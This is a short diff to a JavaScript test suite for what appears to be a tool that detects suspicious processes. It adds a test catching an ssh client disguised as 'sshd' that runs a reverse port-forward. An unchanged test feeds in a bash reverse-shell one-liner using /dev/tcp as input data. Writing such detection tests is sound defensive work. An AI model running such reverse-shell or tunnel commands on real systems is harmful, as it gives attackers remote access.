@@ -128,6 +128,11 @@ it("reads a renamed client like ssh, with less confidence", () => {
   expect(askedOfRenamed(facts)).toMatchObject({ texts: ["-NR 8080:localhost:80"], confidence: 0.8 })
 })
 
+it("is not led astray by what a client calls itself", () => {
+  const facts = aProcess(["sshd", "-NR", "8080:localhost:80", "host"], { exe: "/usr/bin/ssh" })
+  expect(askedOf(facts)).toMatchObject({ tool: "ssh", confidence: 0.9 })
+})
+
 it("cuts long code in evidence", () => {
   const asked = code("bash", "-c", `bash -i >& /dev/tcp/h/1 0>&1 ${"x".repeat(5000)}`)
   expect(String(asked?.evidence[0].facts["argv"]).length).toBeLessThan(310)
